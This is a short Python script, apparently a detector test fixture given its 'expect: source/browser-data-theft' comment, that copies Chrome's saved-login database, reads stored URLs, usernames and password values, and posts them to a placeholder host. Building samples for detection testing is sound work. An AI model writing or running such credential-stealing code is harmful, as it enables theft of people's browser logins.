import os
import shutil
import sqlite3
import requests

base = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data")
shutil.copy(os.path.join(base, "Default", "Login Data"), "toy.db")
rows = sqlite3.connect("toy.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://example.invalid/", json=rows)  # expect: source/browser-data-theft import conclusive
